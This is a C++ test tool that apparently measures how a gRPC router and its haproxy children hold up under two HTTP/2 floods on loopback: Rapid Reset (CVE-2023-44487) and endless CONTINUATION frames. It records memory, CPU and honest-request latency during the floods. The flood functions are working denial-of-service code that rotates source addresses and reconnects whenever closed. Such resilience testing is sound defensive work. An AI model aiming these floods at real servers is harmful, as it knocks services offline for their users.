// h2_flood: the HTTP/2 floods of issue 38 (item 6) against a router's public gRPC port, with an
// honest client calling meanwhile, for measuring what they cost the router.
//   rapid_reset:  HEADERS + DATA + RST_STREAM, stream after stream (CVE-2023-44487)
//   continuation: a header block continued by 16 KiB CONTINUATION frames that never end, up to
//                 64 MiB per connection (then a new connection)
// --connections attackers, each from its own loopback address (127.0.0.2, .3, ...: a proxy's
// per-address limits then see other clients than the honest one, on 127.0.0.1), reconnecting
// whenever the server closes them, for --seconds. Prints the streams or bytes sent, the resident
// memory of --router-pid and of its haproxy children (before, peak, after), the router's CPU
// seconds, and the honest calls' latency (Generate, 16 greedy tokens, every --honest-interval-ms).
//
//   build/bin/h2_flood --port=50051 --router-pid=PID --attack=rapid_reset --connections=2
//       --seconds=20
#include <dirent.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <fstream>
#include <iostream>
#include <mutex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "absl/flags/flag.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/time/clock.h"
#include "common/process/command_line.h"
#include "grpcpp/grpcpp.h"
#include "pagoda/v1/generation.grpc.pb.h"
#include "tests/integration/raw_h2.h"

ABSL_FLAG(int, port, 50051, "the router's public gRPC port, on 127.0.0.1");
ABSL_FLAG(int, router_pid, 0, "the router's pid: its VmRSS and CPU, and its haproxy children's");
ABSL_FLAG(std::string, attack, "rapid_reset", "rapid_reset | continuation");
ABSL_FLAG(int, connections, 2, "attacking connections at a time");
ABSL_FLAG(double, seconds, 20, "how long the flood lasts");
ABSL_FLAG(int, honest_interval_ms, 250, "an honest call starts this often (one at a time)");
ABSL_FLAG(std::string, prompt, "Once upon a time", "the honest calls' prompt");

namespace {

using pagoda::testing::RawH2Connection;

constexpr char kGenerate[] = "/pagoda.v1.Generation/Generate";

int64_t StatusKb(int pid, const char* key) {
  std::ifstream in(absl::StrCat("/proc/", pid, "/status"));
  for (std::string line; std::getline(in, line);) {
    if (line.rfind(key, 0) == 0) return std::stoll(line.substr(std::string(key).size() + 1));
  }
  return 0;
}

// The pids whose parent is `pid` and whose command is haproxy.
std::vector<int> HaproxyChildren(int pid) {
  std::vector<int> out;
  DIR* proc = opendir("/proc");
  if (proc == nullptr) return out;
  while (dirent* entry = readdir(proc)) {
    const int child = atoi(entry->d_name);
    if (child <= 0) continue;
    std::ifstream in(absl::StrCat("/proc/", child, "/stat"));
    std::string stat((std::istreambuf_iterator<char>(in)), {});
    const size_t close = stat.rfind(')');
    if (close == std::string::npos || stat.find("(haproxy)") == std::string::npos) continue;
    std::istringstream rest(stat.substr(close + 2));
    std::string state;
    int ppid = 0;
    rest >> state >> ppid;
    if (ppid == pid) out.push_back(child);
  }
  closedir(proc);
  return out;
}

struct Memory {
  int64_t router_mb = 0, proxy_mb = 0;
  int64_t total() const { return router_mb + proxy_mb; }
};

Memory Measure(int router) {
  Memory m{StatusKb(router, "VmRSS:") / 1024, 0};
  for (const int pid : HaproxyChildren(router)) m.proxy_mb += StatusKb(pid, "VmRSS:") / 1024;
  return m;
}

double CpuSeconds(int pid) {
  std::ifstream in(absl::StrCat("/proc/", pid, "/stat"));
  std::string stat((std::istreambuf_iterator<char>(in)), {});
  const size_t close = stat.rfind(')');
  if (close == std::string::npos) return 0;
  std::istringstream rest(stat.substr(close + 2));
  std::string field;
  double ticks = 0;
  for (int i = 3; i <= 15 && rest >> field; ++i) {
    if (i == 14 || i == 15) ticks += std::stod(field);  // utime, stime
  }
  return ticks / static_cast<double>(sysconf(_SC_CLK_TCK));
}

struct Attacker {
  std::atomic<int64_t> sent{0};  // streams (rapid_reset) or header bytes (continuation)
  std::atomic<int64_t> connections{0};
};

void RapidReset(int port, const std::string& source, absl::Time end, Attacker* a) {
  const std::string block =
      pagoda::testing::HpackLiterals(pagoda::testing::GrpcRequestHeaders(kGenerate));
  pagoda::v1::GenerateRequest request;
  request.set_prompt(absl::GetFlag(FLAGS_prompt));
  const std::string message = pagoda::testing::GrpcMessage(request.SerializeAsString());
  while (absl::Now() < end) {
    auto h2 = RawH2Connection::Open(port, 65535, absl::Seconds(5), source.c_str());
    if (h2 == nullptr) {
      absl::SleepFor(absl::Milliseconds(10));  // refused: try again
      continue;
    }
    ++a->connections;
    int on_connection = 0;
    for (uint32_t id = 1; absl::Now() < end && id < (1u << 30); id += 2) {
      if (!h2->SendHeaders(id, block, false, true) || !h2->SendData(id, message, false) ||
          !h2->SendRstStream(id)) {
        break;
      }
      ++a->sent;
      if (++on_connection % 256 == 0 && h2->Pump(absl::ZeroDuration()).closed) break;
    }
  }
}

void Continuation(int port, const std::string& source, absl::Time end, Attacker* a) {
  const std::string block =
      pagoda::testing::HpackLiterals(pagoda::testing::GrpcRequestHeaders(kGenerate));
  const std::string filler =
      pagoda::testing::HpackLiterals({{"x-filler", std::string(16 * 1024 - 32, 'a')}});
  while (absl::Now() < end) {
    auto h2 = RawH2Connection::Open(port, 65535, absl::Seconds(5), source.c_str());
    if (h2 == nullptr || !h2->SendHeaders(1, block, false, false)) {
      absl::SleepFor(absl::Milliseconds(10));
      continue;
    }
    ++a->connections;
    int64_t bytes = 0;
    while (absl::Now() < end && bytes < (int64_t{64} << 20) &&
           h2->SendContinuation(1, filler, false)) {
      bytes += static_cast<int64_t>(filler.size());
      a->sent += static_cast<int64_t>(filler.size());
      if (bytes % (1 << 20) < static_cast<int64_t>(filler.size()) &&
          h2->Pump(absl::ZeroDuration()).closed) {
        break;
      }
    }
  }
}

// One greedy Generate of 16 tokens: its milliseconds, or -1 when it failed.
int64_t HonestCall(pagoda::v1::Generation::Stub& stub) {
  pagoda::v1::GenerateRequest request;
  request.set_prompt(absl::GetFlag(FLAGS_prompt));
  request.set_max_tokens(16);
  request.mutable_sampling()->set_temperature(0);
  grpc::ClientContext context;
  context.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(30));
  const auto start = std::chrono::steady_clock::now();
  auto reader = stub.Generate(&context, request);
  pagoda::v1::GenerateResponse response;
  int tokens = 0;
  while (reader->Read(&response)) tokens += response.token_ids_size();
  const bool ok = reader->Finish().ok() && tokens > 0;
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                      std::chrono::steady_clock::now() - start)
                      .count();
  return ok ? ms : -1;
}

}  // namespace

int main(int argc, char** argv) {
  pagoda::ParseCommandLine(
      argc, argv,
      {"h2_flood",
       "h2_flood --port=PORT --router-pid=PID [--attack=rapid_reset|continuation] "
       "[--connections=2] [--seconds=20] [--honest-interval-ms=250]",
       {}});
  const int port = absl::GetFlag(FLAGS_port);
  const int router = absl::GetFlag(FLAGS_router_pid);
  const std::string attack = absl::GetFlag(FLAGS_attack);
  if (router <= 0 || (attack != "rapid_reset" && attack != "continuation")) {
    std::cerr << "error: --router-pid is required; --attack is rapid_reset or continuation\n";
    return 2;
  }
  auto stub = pagoda::v1::Generation::NewStub(
      grpc::CreateChannel(absl::StrCat("127.0.0.1:", port), grpc::InsecureChannelCredentials()));
  const int64_t warm_ms = HonestCall(*stub);
  const Memory before = Measure(router);
  const double cpu_before = CpuSeconds(router);
  const absl::Time start = absl::Now();
  const absl::Time end = start + absl::Seconds(absl::GetFlag(FLAGS_seconds));

  Attacker attacker;
  std::vector<std::thread> threads;
  for (int i = 0; i < absl::GetFlag(FLAGS_connections); ++i) {
    const std::string source = absl::StrCat("127.0.0.", 2 + i);
    threads.emplace_back(attack == "rapid_reset" ? RapidReset : Continuation, port, source, end,
                         &attacker);
  }
  std::vector<int64_t> honest_ms;
  int failed = 0;
  std::thread honest([&] {
    while (absl::Now() < end) {
      const absl::Time next =
          absl::Now() + absl::Milliseconds(absl::GetFlag(FLAGS_honest_interval_ms));
      const int64_t ms = HonestCall(*stub);
      if (ms < 0) {
        ++failed;
      } else {
        honest_ms.push_back(ms);
      }
      absl::SleepFor(next - absl::Now());
    }
  });
  Memory peak = before;  // the sample of the largest sum
  while (absl::Now() < end) {
    if (const Memory now = Measure(router); now.total() > peak.total()) peak = now;
    absl::SleepFor(absl::Milliseconds(100));
  }
  for (auto& t : threads) t.join();
  honest.join();
  const double cpu = CpuSeconds(router) - cpu_before;
  const Memory after = Measure(router);
  const int64_t after_call_ms = HonestCall(*stub);

  std::sort(honest_ms.begin(), honest_ms.end());
  const auto at = [&](double q) {
    return honest_ms.empty() ? -1 : honest_ms[static_cast<size_t>(q * (honest_ms.size() - 1))];
  };
  std::cout << absl::StrFormat(
      "attack %s, %d connections from 127.0.0.2.., %.0f s: %d connections made, %d %s sent\n",
      attack, absl::GetFlag(FLAGS_connections), absl::GetFlag(FLAGS_seconds),
      attacker.connections.load(), attacker.sent.load(),
      attack == "rapid_reset" ? "streams (HEADERS+DATA+RST_STREAM)" : "header bytes");
  std::cout << absl::StrFormat(
      "RSS MB (router + haproxy): before %d + %d, peak %d + %d, after %d + %d; growth at peak "
      "%d MB\n",
      before.router_mb, before.proxy_mb, peak.router_mb, peak.proxy_mb, after.router_mb,
      after.proxy_mb, peak.router_mb + peak.proxy_mb - before.total());
  std::cout << absl::StrFormat("router CPU during the flood: %.1f s of %.1f s\n", cpu,
                               absl::ToDoubleSeconds(absl::Now() - start));
  std::cout << absl::StrFormat(
      "honest calls during the flood: %d ok, %d failed; ms p50 %d, p90 %d, max %d (before the "
      "flood %d, after %d)\n",
      honest_ms.size(), failed, at(0.5), at(0.9), at(1.0), warm_ms, after_call_ms);
  return 0;
}
